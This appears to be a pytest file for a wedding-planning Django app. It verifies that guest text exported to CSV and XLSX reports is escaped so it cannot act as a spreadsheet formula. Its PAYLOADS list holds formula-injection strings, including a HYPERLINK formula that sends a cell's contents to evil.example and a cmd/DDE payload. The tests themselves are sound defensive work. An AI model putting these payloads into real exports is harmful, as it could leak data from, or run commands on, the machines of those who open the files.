"""Issue #13 item 3: guest text reaches the planner's spreadsheets as text, never as a formula."""

from __future__ import annotations

import csv
import io

import openpyxl
import pytest
import tablib
from django.urls import reverse

from tests import factories
from wedding.core.spreadsheets import spreadsheet_safe

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click for menu")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_dietary_report_csv_cell_is_text(planner_client, wedding, event, payload):
    guest = factories.GuestFactory(household__wedding=wedding, household__name=payload, dietary_notes=payload)
    factories.InvitationFactory(guest=guest, event=event)
    factories.ResponseFactory(guest=guest, event=event, status="attending")
    response = planner_client.get(reverse("admin:dashboard-report-csv", args=[wedding.pk, "dietary"]))
    header, row = list(csv.reader(io.StringIO(response.content.decode())))
    cells = dict(zip(header, row, strict=True))
    assert cells["note"] == "'" + payload
    assert cells["household"] == "'" + payload


@pytest.mark.parametrize("report", ["seating", "escort"])
def test_seating_reports_neutralise_names(planner_client, wedding, event, report):
    table = factories.TableFactory(event=event, name="=1+1")
    guest = factories.GuestFactory(household__wedding=wedding, first_name="@cmd", last_name="")
    factories.InvitationFactory(guest=guest, event=event)
    factories.SeatFactory(guest=guest, table=table, event=event)
    response = planner_client.get(
        reverse("admin:dashboard-report-csv", args=[wedding.pk, report]), {"event": event.pk}
    )
    text = response.content.decode()
    assert "'=1+1" in text and "'@cmd" in text
    for row in csv.reader(io.StringIO(text)):
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)


def test_the_helper_yields_no_formula_in_an_xlsx():
    data = tablib.Dataset(headers=["note", "count"])
    for payload in PAYLOADS:
        data.append([spreadsheet_safe(payload), spreadsheet_safe(3)])
    sheet = openpyxl.load_workbook(io.BytesIO(data.export("xlsx"))).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert cells and not [c.value for c in cells if c.data_type == "f"]
    assert [c.value for c in cells if c.column == 2] == [3] * len(PAYLOADS)  # numbers stay numbers
